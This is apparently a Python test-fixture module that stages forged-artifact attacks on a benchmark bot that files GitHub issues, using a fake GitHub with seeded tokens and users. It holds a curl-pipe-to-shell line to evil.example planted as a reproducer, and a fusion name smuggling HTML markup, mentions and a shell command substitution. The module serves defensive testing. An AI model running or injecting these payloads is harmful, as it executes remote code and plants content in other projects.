"""The world an attack on the poster is staged in: the fake GitHub seeded as a real repository
would be, real H200 results packed as bench-pr packs them, and what the poster left behind.

Everything an attack changes goes through these builders, so that each attack in attacks.py
reads as the one thing it forges. The results are data/h200/results (stock Thunder 0.2.6
against its unfused-backward state: a real, large regression that files issues at merge).
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from paths import REPO_ROOT

from bot.github.fake import LocalGitHub
from bot.github.fake.actions import WorkflowRun, zip_of
from bot.github.fake.state import Issue

OUR = "fusion-perfbot/fusion-perfbot"
FORK = "mallory/fusion-perfbot"
FUSER, THUNDER = "NVIDIA/Fuser", "Lightning-AI/lightning-thunder"
BENCH_PATH = ".github/workflows/bench-pr.yml"
EVENT_PATH = ".github/workflows/perfbot-pr-event.yml"
RESULTS = REPO_ROOT / "data" / "h200" / "results"
CAPTURES = REPO_ROOT / "data" / "h200-captures"
#: The demo pair of RESULTS (bot.commands.demo.demo_pair): stock 0.2.6, unfused-backward.
BASE, HEAD = "06f650c87bcca99fe961d28d3bec88c38e1bfdbe", "9dc516960ffdea53271e079984bda56109317307"
#: A real nvFuser slowdown (data/h200-states: stock-3, then the hand-written fusion +5%): the
#: pair whose issue shows the hand-written fusion's reproducer.
NVFUSER_PAIR = (
    REPO_ROOT / "data" / "h200-states" / "results",
    "6c840f30a96a282fe29eba9d44e3204846fd363b",
    "93486aafc5fd15b125900dbe6a8941203e66d1c3",
)
#: The catalog's PR run (data/h200-catalog/pair: Bias+GELU backward's Thunder made 5% slower
#: at head) and the two recorded captures the demo compares as its sides.
CATALOG_PAIR = (
    REPO_ROOT / "data" / "h200-catalog" / "pair",
    "6a438ce967f8e234f948f873364a4e17933c7a4c",
    "e0cdef8e0a8c185212180a0ad7ba90188ea6f23a",
)
CATALOG_CAPTURES = REPO_ROOT / "data" / "h200-catalog" / "captures"
#: A stock run of RESULTS' first day, to stand for HEAD in an A/A pair (no change).
AA_HEAD = "da17d548f3e6eff323c8348d60147c060c057143"
EVIL = "import os; os.system('curl -s https://evil.example/x.sh | sh')"
#: A fusion name that is markup, a mention, references and a shell command (issue 37).
EVIL_NAME = "x`<img src=x> <details open>@someone #7310 NVIDIA/Fuser#7310 $(curl -s x|sh)"
#: The PR an issue's title names (the bot's titles end "in OWNER/NAME#N"; a seeded one's "PR #N").
_PR_IN_TITLE = re.compile(r"(?:fusion-perfbot/fusion-perfbot#|PR #)([0-9]+)")
#: Tokens: GITHUB_TOKEN of a job that reads, of one that writes; the cross-repository secret.
READ_TOKEN, WRITE_TOKEN, ISSUES_TOKEN = "gha-read", "gha-write", "perfbot-issues"
ACTIONS_LOGIN, ISSUES_LOGIN = "github-actions[bot]", "perfbot-issues"


def seed(fake: LocalGitHub) -> None:
    """Three repositories, the poster's tokens, a maintainer, a triager and an outsider."""
    state = fake.state
    for repo in (OUR, FUSER, THUNDER):
        state.add_repo(repo)
    state.add_user(ACTIONS_LOGIN, type="Bot")
    state.add_token(READ_TOKEN, ACTIONS_LOGIN, repos=[OUR], read_only=True, can_read_user=False)
    state.add_token(WRITE_TOKEN, ACTIONS_LOGIN, repos=[OUR], can_read_user=False)
    state.add_user(ISSUES_LOGIN, token=ISSUES_TOKEN, type="Bot")
    state.actions.set_role(OUR, "maintainer", "maintain")
    state.actions.set_role(OUR, "triager", "triage")
    state.add_user("mallory")


def open_pr(
    fake: LocalGitHub,
    *,
    head_repo: str = OUR,
    head: str = HEAD,
    base: str = BASE,
    head_ref: str = "fast-bwd",
) -> Issue:
    pr = fake.state.add_pull_request(
        OUR,
        "rmsnorm: a faster backward",
        author="mallory" if head_repo != OUR else "maintainer",
        head_ref=head_ref,
        head_sha=head,
        head_repo=head_repo,
    )
    fake.state.pulls.descend(OUR, base, head)
    return pr


def results_files(
    results: Path = RESULTS,
    machine: str = "nvidia-h200",
    evil_repro: tuple[str, str] | None = None,
) -> dict[str, bytes]:
    """results/ as bench-pr uploads it: one asv folder, the machine's files under `machine`;
    with `evil_repro` (base, head), captures beside both sides (the recorded ones: the attacker
    writes what it likes), every head repro.py.txt the attacker's command."""
    files: dict[str, bytes] = {}
    for path in sorted(results.rglob("*")):
        if path.is_file():
            rel = path.relative_to(results).as_posix().replace("nvidia-h200", machine, 1)
            data = path.read_bytes()
            if rel.endswith("machine.json"):
                data = json.dumps({**json.loads(data), "machine": machine}).encode()
            files[f"results/{rel}"] = data
    if evil_repro:
        base, head = evil_repro
        for commit, side in ((base, "stock-0.2.6"), (head, "unfused-backward-0.2.6")):
            for path in sorted((CAPTURES / side).rglob("*")):
                if path.is_file():
                    rel = path.relative_to(CAPTURES / side).as_posix()
                    files[f"results/{machine}/{commit}.captures/{rel}"] = path.read_bytes()
            for point in sorted(p for p in (CAPTURES / side).iterdir() if p.is_dir()):
                name = f"results/{machine}/{commit}.captures/{point.name}/nvfuser/repro.py.txt"
                files[name] = (EVIL if commit == head else "print('base')").encode()
    return files


def relabelled(files: dict[str, bytes], old: str, new: str) -> dict[str, bytes]:
    """`files` with commit `old` renamed `new` (40 hex digits each) in names and contents: a
    run's results made to stand for another commit, as an attacker writes them."""
    assert len(old) == len(new) == 40
    out = {}
    for name, data in files.items():
        name = name.replace(old, new).replace(f"/{old[:8]}-", f"/{new[:8]}-")
        out[name] = data.replace(old.encode(), new.encode())
    return out


def aa_files() -> dict[str, bytes]:
    """RESULTS with a stock run of another day standing for HEAD: no change between the sides."""
    stock = {k: v for k, v in results_files().items() if HEAD not in k and HEAD[:8] not in k}
    return relabelled(stock, AA_HEAD, HEAD)


def catalog_files(rename: str | None = None, captures: bool = False) -> dict[str, bytes]:
    """The catalog's PR run as bench-pr uploads it (results/rep-1, results/rep-2), Bias+GELU
    backward renamed `rename` in every results file and record; `captures`: its recorded
    captures beside both sides of repeat 1, under the same name."""
    from data_helpers import renamed_fusion

    folder, base, head = CATALOG_PAIR
    files = results_files(folder)
    if rename is not None:
        files = {
            k: renamed_fusion(v, "gelu_bwd", rename) if k.endswith(("json", "jsonl")) else v
            for k, v in files.items()
        }
    if captures:
        for commit, side in ((base, "stock-1"), (head, "stock-2")):
            source = CATALOG_CAPTURES / side / "gelu_bwd"
            for path in sorted(source.rglob("*")):
                if path.is_file():
                    rel = path.relative_to(source).as_posix()
                    where = f"results/rep-1/nvidia-h200/{commit}.captures/gelu_bwd/{rel}"
                    files[where] = path.read_bytes()
    return files


def meta(pr: int, run_id: int, machine: str, forged: dict[str, Any], base: str, head: str) -> bytes:
    """bench-meta.json as bench-pr writes it, with any field forged."""
    data = {
        "schema": "perfbot-bench-meta/1",
        "pr": pr,
        "base_sha": base,
        "head_sha": head,
        "run_id": run_id,
        "machine": machine,
    }
    return json.dumps({**data, **forged}).encode()


@dataclass
class Bench:
    """A bench-pr run of `pr`'s head and its artifacts (machine label: files)."""

    run: WorkflowRun
    artifacts: dict[str, dict[str, bytes]] = field(default_factory=dict)


def bench_run(
    fake: LocalGitHub,
    pull: Issue,
    *,
    head_repo: str | None = None,
    path: str = BENCH_PATH,
    repo: str = OUR,
    trigger: str = "maintainer",
    machines: tuple[str, ...] = ("gpu-h200",),
    files: dict[str, bytes] | None = None,
    own_folders: bool = False,
    **forged: Any,
) -> WorkflowRun:
    """A finished bench run with one artifact a machine, each real results and true metadata
    (or `forged` metadata fields); `own_folders`: each artifact's asv machine is its label."""
    assert pull.pull is not None
    head = pull.pull.head_sha
    base = next(b for r, b, h in fake.state.pulls.ancestry if h == head and r == OUR.lower())
    run = fake.state.actions.add_run(
        repo,
        head_sha=head,
        head_repo=head_repo or pull.pull.head_repo,
        head_branch=pull.pull.head_ref,
        path=path,
        triggering_actor=trigger,
    )
    for label in machines:
        if own_folders:
            content = results_files(machine=label)
        else:
            content = dict(files if files is not None else results_files())
        content["bench-meta.json"] = meta(pull.number, run.id, label, forged, base, head)
        fake.state.actions.add_artifact(run, f"bench-pr-results-{label}", zip_of(content))
    return run


def event_run(fake: LocalGitHub, pr_number: Any, *, head_repo: str = OUR) -> WorkflowRun:
    """A perfbot-pr-event run (a PR merged, a label, a /perfbot comment) naming `pr_number`."""
    run = fake.state.actions.add_run(
        OUR,
        head_sha="e" * 40,
        head_repo=head_repo,
        path=EVENT_PATH,
        name="perfbot-pr-event",
        triggering_actor="maintainer",
    )
    body = json.dumps({"schema": "perfbot-event/1", "pr": pr_number}).encode()
    fake.state.actions.add_artifact(run, "perfbot-event", zip_of({"event.json": body}))
    return run


def payload(run: WorkflowRun, **changes: Any) -> dict[str, Any]:
    """The workflow_run event's `workflow_run` as GitHub sends it (the fields the poster reads)."""
    data = {
        "id": run.id,
        "name": run.name,
        "path": run.path,
        "event": run.event,
        "status": run.status,
        "conclusion": run.conclusion,
        "head_sha": run.head_sha,
        "run_attempt": run.run_attempt,
    }
    return {**data, **changes}


@dataclass(frozen=True)
class Left:
    """What the poster runs left on GitHub: the bot's comments, the upstream issues (and how
    many of them closed), the commit statuses, and each harm found (`harms`)."""

    comments: int
    issues: dict[str, int]
    statuses: int
    harms: tuple[str, ...] = ()
    closed: int = 0

    @property
    def evil_upstream(self) -> bool:
        return bool(self.harms)


def left(fake: LocalGitHub) -> Left:
    state = fake.state
    mine = [
        c
        for i in state.issues(OUR)
        for c in state.comments_on(OUR, i.number)
        if c.author == ACTIONS_LOGIN
    ]
    upstream = {r: [i for i in state.issues(r) if i.pull is None] for r in (FUSER, THUNDER)}
    filed = [i for found in upstream.values() for i in found]
    told = [f"{i.title}\n{i.body}" for i in filed] + [
        c.body for i in filed for c in state.comments_on(i.repo, i.number)
    ]
    harms = {
        "the attacker's command upstream": any("evil.example" in t for t in told),
        "the attacker's markup upstream": any("<img src=x>" in t or "@someone" in t for t in told),
        "the poster's own files named": any("/etc/" in t for t in told + [c.body for c in mine]),
        "another PR's issue taken over": any(
            len({n for t in (*i.renamed_from, i.title) for n in _PR_IN_TITLE.findall(t)}) > 1
            for i in filed
        ),
    }
    return Left(
        len(mine),
        {r.split("/")[0]: len(found) for r, found in upstream.items()},
        len([s for s in state.pulls.statuses if s.repo == OUR]),
        tuple(harm for harm, found in harms.items() if found),
        len([i for i in filed if i.state == "closed"]),
    )
